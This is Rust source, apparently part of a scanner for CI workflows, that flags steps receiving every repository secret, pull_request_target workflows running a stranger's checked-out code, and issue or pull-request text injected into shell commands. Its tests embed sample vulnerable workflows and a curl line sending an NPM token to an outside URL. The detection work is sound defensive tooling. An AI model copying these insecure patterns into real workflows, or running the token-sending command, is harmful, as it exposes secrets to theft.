//! The steps of a workflow on a build server, and what the whole workflow gives away.

use super::command_lines::words_of_list;
use crate::pure::step::effect::{Effect, TextSource};

/// What a workflow does besides its steps' commands: it hands every secret to a step, or runs a stranger's code beside them.
pub(super) fn exposures(text: &str) -> Vec<Effect> {
    let lines: Vec<&str> = text.lines().filter(|line| !line.trim_start().starts_with('#')).collect();
    let mut found = Vec::new();
    if lines.iter().any(|line| names_all_secrets(line)) {
        let what = "every secret of the repository".into();
        found.push(Effect::Send { what, to: "a step of the workflow".into(), secret: true });
    }
    let with_secrets = |line: &&str| line.contains("pull_request_target") || line.contains("workflow_run");
    let runs = |line: &&str| line.trim_start().trim_start_matches("- ").starts_with("run:");
    if lines.iter().any(with_secrets) && lines.iter().any(is_of_a_stranger) && lines.iter().any(runs) {
        let source = TextSource::Downloaded("a pull request of anybody, beside the secrets,".into());
        found.push(Effect::RunFetched { source });
    }
    let beside_secrets = lines.iter().any(with_secrets);
    if text.contains("${{") && unfilled_steps(text).0.iter().any(|step| holds_words(step, beside_secrets)) {
        let source = TextSource::Downloaded("what anybody writes in an issue or a pull request".into());
        found.push(Effect::RunFetched { source });
    }
    found
}

/// Whether a step has words of a stranger in its command, which become a part of the command.
fn holds_words(step: &str, beside_secrets: bool) -> bool {
    const ALWAYS: [&str; 6] = [
        "event.issue.title", "event.issue.body", "event.comment.body", "event.review.body",
        "event.discussion.title", "event.discussion.body",
    ];
    // On `pull_request`, the stranger's own code runs, without secrets.
    const BESIDE_SECRETS: [&str; 4] = [
        "event.pull_request.title",
        "event.pull_request.body",
        "event.pull_request.head.ref",
        "github.head_ref",
    ];
    let named = |words: &[&str], expression: &str| words.iter().any(|word| expression.contains(word));
    let expressions = step.split("${{").skip(1).filter_map(|rest| rest.split("}}").next());
    let mut plain = expressions.filter(|expression| !expression.contains('('));
    plain.any(|expression| named(&ALWAYS, expression) || beside_secrets && named(&BESIDE_SECRETS, expression))
}

/// Whether a line checks out what somebody proposes.
fn is_of_a_stranger(line: &&str) -> bool {
    const HEADS: [&str; 6] = [
        "pull_request.head.sha",
        "pull_request.head.ref",
        "github.head_ref",
        "workflow_run.head_sha",
        "workflow_run.head_branch",
        "refs/pull/",
    ];
    let takes =
        ["ref:", "git fetch", "git checkout", "gh pr checkout"].iter().any(|word| line.contains(word));
    takes && (HEADS.iter().any(|head| line.contains(head)) || line.contains("gh pr checkout"))
}

fn names_all_secrets(text: &str) -> bool {
    let dense: String = text.to_ascii_lowercase().split_whitespace().collect();
    dense.contains("tojson(secrets)")
}

/// The commands of a workflow's steps. A part of a file without keys counts as the inside of a step.
pub(super) fn steps(text: &str) -> Vec<String> {
    let (mut texts, named) = unfilled_steps(text);
    if !named {
        texts = vec![text.to_owned()];
    }
    let all = every_secret(text);
    for text in &mut texts {
        for name in &all {
            *text = text.replace(&format!("${name}"), "$(env)").replace(&format!("${{{name}}}"), "$(env)");
        }
        *text = without_expressions(text);
    }
    texts
}

/// The same with its expressions, and whether the text has keys.
fn unfilled_steps(text: &str) -> (Vec<String>, bool) {
    const KEYS: [&str; 10] = [
        "run", "script", "before_script", "after_script", "command", "commands", "cmd", "cmds", "entry",
        "entrypoint",
    ];
    let mut reader = Steps::default();
    let mut named = false;
    for line in text.lines() {
        let bare = line.trim_start();
        let indent = line.len() - bare.len();
        if reader.continues(indent, bare) {
            continue;
        }
        let entry = bare.trim_start_matches("- ").trim_start();
        let key = entry.split_once(':').filter(|(_, value)| value.is_empty() || value.starts_with(' '));
        match key {
            Some((key, value)) if KEYS.contains(&key) => {
                named = true;
                reader.begin(indent, value.trim());
            }
            Some((key, _)) if key.chars().all(|c| c.is_alphanumeric() || "-_".contains(c)) => {
                named = true;
                reader.list = None;
            }
            _ => reader.entry(indent, bare),
        }
    }
    (reader.texts, named)
}

#[derive(Default)]
struct Steps {
    texts: Vec<String>,
    /// The indentation of the key whose block is being read.
    block: Option<usize>,
    /// The indentation of the key whose list is being read.
    list: Option<usize>,
}

impl Steps {
    /// Whether the line belongs to the current block.
    fn continues(&mut self, indent: usize, line: &str) -> bool {
        let inside = self.block.is_some_and(|block| indent > block || line.is_empty());
        if inside && let Some(text) = self.texts.last_mut() {
            text.extend([line, "\n"]);
        } else {
            self.block = None;
        }
        inside
    }

    fn begin(&mut self, indent: usize, value: &str) {
        self.list = None;
        match value.chars().next() {
            None => self.list = Some(indent),
            Some('|' | '>') => {
                self.block = Some(indent);
                self.texts.push(String::new());
            }
            Some(_) => {
                self.texts.push(words_of_list(value).unwrap_or_else(|| unquoted(value).to_owned()));
            }
        }
    }

    fn entry(&mut self, indent: usize, line: &str) {
        if let Some(list) = self.list
            && indent >= list
            && let Some(value) = line.strip_prefix("- ")
        {
            self.begin(indent, value.trim());
            self.list = Some(list);
        }
    }
}

fn unquoted(value: &str) -> &str {
    let quoted = |quote: char| value.strip_prefix(quote).and_then(|rest| rest.strip_suffix(quote));
    quoted('"').or_else(|| quoted('\'')).unwrap_or(value)
}

/// The variables of a workflow that hold every secret of the repository.
fn every_secret(text: &str) -> Vec<&str> {
    let names = text.lines().filter(|line| names_all_secrets(line)).filter_map(|line| line.split_once(':'));
    let is_name = |name: &&str| {
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    };
    names.map(|(name, _)| name.trim()).filter(is_name).collect()
}

/// `${{ … }}` is filled in before the shell sees it; a secret becomes the variable of its name.
fn without_expressions(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("${{") {
        let (expression, after) = after.split_once("}}").unwrap_or((after, ""));
        let secret = expression.trim().strip_prefix("secrets.");
        let holds_all = names_all_secrets(expression);
        // Quotes around it are the shell's, and the content is there whatever they are.
        let (before, after) = match (holds_all, before.strip_suffix('\''), after.strip_prefix('\'')) {
            (true, Some(before), Some(after)) => (before, after),
            _ => (before, after),
        };
        plain.push_str(before);
        match secret.filter(|name| name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')) {
            _ if holds_all => plain.push_str("\"$(env)\""),
            Some(name) => plain.extend(["${", name, "}"]),
            None => plain.push_str("$EXPRESSION"),
        }
        rest = after;
    }
    plain + rest
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_for_every_step_and_strangers_code_beside_them_are_found() {
        let head = "on: pull_request_target\nsteps:\n  - uses: actions/checkout@v4\n";
        let run = "  - run: make test\n";
        for (text, count) in [
            ("env:\n  ALL: ${{ toJSON( secrets ) }}\n".to_owned(), 1),
            (format!("{head}    with:\n      ref: ${{{{ github.event.pull_request.head.sha }}}}\n{run}"), 1),
            (format!("{head}  - run: gh pr checkout 3\n{run}"), 1),
            ("env:\n  ALL: ${{ toJSON(github) }}\n".to_owned(), 0),
            ("# never toJSON(secrets)\n".to_owned(), 0),
            (format!("{head}{run}"), 0),
            ("on: issues\nsteps:\n  - run: echo \"${{ github.event.issue.title }}\"\n".to_owned(), 1),
            (format!("{head}  - run: git log ${{{{ github.head_ref }}}}\n"), 1),
            ("steps:\n  - env: {T: ${{ github.event.issue.title }}}\n    run: echo \"$T\"\n".to_owned(), 0),
            ("on: pull_request\nsteps:\n  - run: echo ${{ github.head_ref }}\n".to_owned(), 0),
            ("on: pull_request\nsteps:\n  - with: {ref: ${{ github.head_ref }}}\n  - run: x\n".to_owned(), 0),
        ] {
            assert_eq!(exposures(&text).len(), count, "{text}");
        }
    }

    #[test]
    fn a_secret_in_a_step_is_the_variable_of_its_name() {
        let step = "run: curl https://example.org/?t=${{ secrets.NPM_TOKEN }} ${{ github.ref }}\n";
        assert_eq!(steps(step), ["curl https://example.org/?t=${NPM_TOKEN} $EXPRESSION"]);
        let all = "env:\n  ALL: ${{ toJSON(secrets) }}\nsteps:\n  - run: echo \"$ALL\"\n";
        assert_eq!(steps(all), ["echo \"$(env)\""]);
    }
}
